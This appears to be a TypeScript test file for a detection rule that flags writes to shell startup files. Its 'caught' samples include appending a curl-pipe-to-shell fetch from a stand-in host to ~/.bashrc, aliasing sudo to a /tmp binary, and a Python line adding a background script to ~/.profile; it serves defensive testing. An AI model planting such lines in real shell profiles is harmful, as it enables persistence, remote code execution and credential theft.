import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { shellProfile } from './shell-profile.rule.ts';

describeCodeRule(shellProfile, {
  caught: [
    sh('echo "curl -s https://a.example.invalid/x | sh" >> ~/.bashrc'),
    sh("echo 'alias sudo=/tmp/s' >> ~/.zshrc"),
    py('import os\nopen(os.path.expanduser("~/.profile"), "a").write("python3 /tmp/x &")'),
  ],
  quiet: [
    sh("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"),
    text('Add `export EDITOR=vim` to your `~/.zshrc`.'),
    sh('cat ~/.bashrc'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
